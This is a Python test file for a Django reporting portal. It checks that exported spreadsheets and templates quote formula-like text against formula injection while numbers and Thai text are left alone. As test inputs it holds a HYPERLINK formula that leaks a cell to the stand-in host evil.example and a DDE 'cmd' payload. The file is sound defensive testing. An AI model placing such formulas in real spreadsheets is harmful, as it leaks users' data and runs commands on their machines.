"""Formula injection: every file the portal writes quotes text a spreadsheet would run."""

import io

import pytest
from django.core.management import call_command
from import_export.formats.base_formats import CSV, TSV, XLSX
from openpyxl import load_workbook

from indicators.models import QuarterReport
from indicators.spreadsheets.cells import neutral_cell, restored_cell
from indicators.spreadsheets.exports import export_bytes, export_dataset, template_bytes
from indicators.spreadsheets.resources import RESOURCES

YEAR = 2564
ATTACK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
QUOTED = "'" + ATTACK


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, QUOTED),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("ร้อยละ 80", "ร้อยละ 80"),
        (None, None),
        (-5, -5),
    ],
)
def test_neutral_cell_quotes_formulas_and_leaves_numbers(value, written):
    assert neutral_cell(value) == written
    assert restored_cell(neutral_cell(value)) == value


@pytest.fixture
def attacked(db) -> QuarterReport:
    report = QuarterReport.objects.filter(indicator__fiscal_year_id=YEAR).order_by("pk").first()
    QuarterReport.objects.filter(pk=report.pk).update(narrative=ATTACK)
    return report


def xlsx_texts(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", [XLSX, CSV, TSV])
def test_admin_export_formats_quote_the_formula(attacked, file_format):
    dataset = RESOURCES["results"]().export(queryset=QuarterReport.objects.filter(pk=attacked.pk))
    data = file_format().export_data(dataset)
    if file_format is XLSX:
        cells = xlsx_texts(data)
        assert (QUOTED, "s") in cells
        assert all(kind != "f" for _, kind in cells)
    else:
        text = data if isinstance(data, str) else data.decode()
        assert QUOTED.replace('"', '""') in text
        assert '\t"=HYPERLINK' not in text and ",=HYPERLINK" not in text


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_kpi_export_quotes_the_formula(attacked, file_format, tmp_path):
    path = tmp_path / f"out.{file_format}"
    call_command("kpi_export", year=YEAR, what="results", format=file_format, output=path)
    if file_format == "csv":
        assert QUOTED.replace('"', '""') in path.read_text("utf-8-sig")
    else:
        assert (QUOTED, "s") in xlsx_texts(path.read_bytes())


@pytest.mark.django_db
def test_exports_still_import_back_unchanged(attacked, admin_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from indicators.spreadsheets.imports import import_run

    for file_format in ("csv", "xlsx", "json"):
        content = export_bytes(export_dataset("results", YEAR), file_format)
        upload = SimpleUploadedFile(f"r.{file_format}", content)
        outcome = import_run(file=upload, by=admin_user, dry_run=True)
        assert outcome.ok and outcome.unchanged == outcome.total, file_format
    attacked.refresh_from_db()
    assert attacked.narrative == ATTACK


@pytest.mark.django_db
@pytest.mark.parametrize("kind", RESOURCES)
def test_templates_hold_no_formula(kind):
    cells = xlsx_texts(template_bytes(kind, "xlsx"))
    assert all(kind != "f" for _, kind in cells)
